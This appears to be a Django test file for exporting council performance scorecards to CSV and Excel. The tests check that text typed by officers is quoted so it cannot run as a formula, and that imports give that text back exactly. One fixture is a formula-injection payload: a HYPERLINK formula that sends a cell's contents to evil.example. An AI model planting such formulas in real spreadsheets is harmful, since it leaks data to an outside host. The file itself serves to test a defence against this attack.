"""Exported spreadsheets: nothing an officer typed runs as a formula, imports give it back exactly;
Excel files hold real numbers and dates, whole text, a frozen filtered header; names say what is in them."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from indicators.formula_guard import guard_text, unguard_text
from indicators.imports import apply_import, plan_import
from indicators.models import IndicatorValue, Role
from indicators.periods import Period
from tests.factories import (
    make_action,
    make_committee,
    make_indicator,
    make_plan,
    make_service,
    make_target,
    make_update,
    make_user,
    make_value,
)

pytestmark = pytest.mark.django_db
Q2 = Period.parse("Q2 2022/23")
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
LONG_UPDATE = (
    "<p>" + "Panel approved two new kinship carers and reviewed placements. " * 8 + "</p><p>Next: recruit.</p>"
)


# The guard -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1343 563000", "'+44 1343 563000"),
        ("-3 children", "'-3 children"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        (ATTACK, "'" + ATTACK),
        ("'=1+1", "''=1+1"),  # a quote the officer typed is kept through the round trip
        ("Two new carers", "Two new carers"),
        ("It's 5", "It's 5"),
        ("'quoted'", "'quoted'"),
        ("a=b", "a=b"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_text_that_could_start_a_formula_gets_a_quote_and_imports_take_it_off(text, guarded):
    assert guard_text(text) == guarded
    assert unguard_text(guard_text(text)) == text


def test_cells_not_written_by_the_guard_are_read_as_they_are():
    for text in ["-3.5", "41.8", "'quoted", "Q2 2022/23", "", "''"]:
        assert unguard_text(text) == text


# Exports ---------------------------------------------------------------------------------------


@pytest.fixture
def world(client):
    service = make_service("Justice services")
    plan = make_plan(service, title="Justice plan", first_year=2020, last_year=2022)
    committee = make_committee(service, name="Audit and Scrutiny Committee")
    owner = make_user("jo", first_name="Jo", last_name="Bloggs")
    rate = make_indicator(service, plan=plan, code="JUS1", unit="%", decimal_places=1, polarity="lower", owner=owner)
    make_target(rate, "Q2 2022/23", 10, 1)
    make_value(rate, "Q2 2022/23", "9.94", commentary=ATTACK)
    count = make_indicator(service, plan=plan, code="JUS2", unit="orders", decimal_places=1, title="-Orders made")
    make_value(count, "Q2 2022/23", "-3.5", commentary="-3 on last year")
    action = make_action(plan, code="JS1", assigned_to=owner, due_date=dt.date(2023, 3, 31))
    make_update(action, "Q2 2022/23", 40, narrative=LONG_UPDATE, revised_due_date=dt.date(2023, 6, 30))
    client.force_login(make_user("cllr", Role.Kind.MEMBER))
    return {"committee": committee, "rate": rate, "count": count, "owner": owner}


def download(client, world, export, **params):
    url = reverse("reports:committee_scorecard", args=[world["committee"].slug])
    response = client.get(url, {"period": Q2.key, "format": export, **params})
    assert response.status_code == 200
    return response


def workbook(response) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(response.content))


def rows_by_code(sheet) -> dict[str, dict[str, openpyxl.cell.Cell]]:
    header = [cell.value for cell in sheet[1]]
    return {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}


def test_hyperlink_typed_by_an_officer_is_text_in_both_formats_and_imports_back_exactly(client, world):
    xlsx = download(client, world, "xlsx")
    sheet = workbook(xlsx)["Indicators"]
    cell = rows_by_code(sheet)["JUS1"]["commentary"]
    assert cell.data_type == "s" and cell.value == "'" + ATTACK
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
        assert all(b"<f>" not in archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))
    titles = rows_by_code(sheet)["JUS2"]
    assert titles["title"].value == "'-Orders made" and titles["commentary"].value == "'-3 on last year"

    text = download(client, world, "csv").content.decode("utf-8-sig")
    table = {row["indicator_code"]: row for row in csv.DictReader(io.StringIO(text))}
    assert table["JUS1"]["commentary"] == "'" + ATTACK
    assert table["JUS2"]["value"] == "-3.5"  # a number, not text: no guard

    for content, name in [(xlsx.content, "export.xlsx"), (text.encode("utf-8-sig"), "export.csv")]:
        IndicatorValue.objects.all().delete()
        plan = plan_import("values", content, name)
        assert plan.valid, plan.errors[:3]
        apply_import(plan, None, name)
        stored = {v.indicator.code: v for v in IndicatorValue.objects.select_related("indicator")}
        assert stored["JUS1"].commentary == ATTACK, name
        assert stored["JUS1"].value == Decimal("9.94") and stored["JUS2"].value == Decimal("-3.5")
        assert stored["JUS2"].commentary == "-3 on last year"


def test_excel_figures_are_numbers_with_the_indicators_format_and_dates_are_dates(client, world):
    book = workbook(download(client, world, "xlsx"))
    indicators = rows_by_code(book["Indicators"])
    value, target = indicators["JUS1"]["value"], indicators["JUS1"]["target"]
    assert value.data_type == "n" and value.value == pytest.approx(9.94)  # every digit kept…
    assert value.number_format == '#,##0.0"%"'  # …shown as the page shows it, 9.9%
    assert target.value == 10 and target.number_format == '#,##0.0"%"'
    assert (
        indicators["JUS2"]["value"].value == pytest.approx(-3.5)
        and indicators["JUS2"]["value"].number_format == "#,##0.0"
    )
    assert indicators["JUS1"]["status"].value == "On target"
    assert indicators["JUS1"]["last_year_value"].value is None

    action = rows_by_code(book["Actions"])["JS1"]
    assert action["due_date"].is_date and action["due_date"].value.date() == dt.date(2023, 3, 31)
    assert action["due_date"].number_format == "dd/mm/yyyy"
    assert action["revised_due_date"].value.date() == dt.date(2023, 6, 30)
    assert action["progress"].data_type == "n" and action["progress"].value == 40
    assert action["progress"].number_format == '#,##0"%"'
    assert action["status"].value  # a status word


def test_excel_text_is_whole_and_wrapped_under_a_frozen_filtered_header(client, world):
    book = workbook(download(client, world, "xlsx"))
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
        assert all(cell.font.bold for cell in sheet[1])
    actions = book["Actions"]
    update = rows_by_code(actions)["JS1"]["latest_update"]
    assert "…" not in update.value and update.value.endswith("reviewed placements.\n\nNext: recruit.")
    assert update.value.count("Panel approved") == 8
    assert update.alignment.wrap_text
    header = {cell.value: cell.column_letter for cell in actions[1]}
    assert actions.column_dimensions[header["latest_update"]].width == 80
    assert actions.column_dimensions[header["action_code"]].width >= len("action_code")


def test_file_names_carry_the_scope_period_and_filters(client, world):
    whole = download(client, world, "xlsx")["Content-Disposition"]
    assert whole == 'attachment; filename="scorecard-audit-and-scrutiny-committee-q2-2022-23.xlsx"'
    names = {
        download(client, world, "csv", status=["red", "amber"])["Content-Disposition"],
        download(client, world, "csv", status="attention")["Content-Disposition"],
        download(client, world, "csv", owner=str(world["owner"].pk))["Content-Disposition"],
        download(client, world, "csv", q="kinship")["Content-Disposition"],
        download(client, world, "csv")["Content-Disposition"],
    }
    assert names == {
        'attachment; filename="scorecard-audit-and-scrutiny-committee-q2-2022-23-amber-red.csv"',
        'attachment; filename="scorecard-audit-and-scrutiny-committee-q2-2022-23-needs-attention.csv"',
        'attachment; filename="scorecard-audit-and-scrutiny-committee-q2-2022-23-owner-jo-bloggs.csv"',
        'attachment; filename="scorecard-audit-and-scrutiny-committee-q2-2022-23-search-kinship.csv"',
        'attachment; filename="scorecard-audit-and-scrutiny-committee-q2-2022-23.csv"',
    }
    long_search = download(client, world, "csv", q="x" * 100)["Content-Disposition"]
    assert len(long_search) < 200 and long_search.endswith('.csv"')
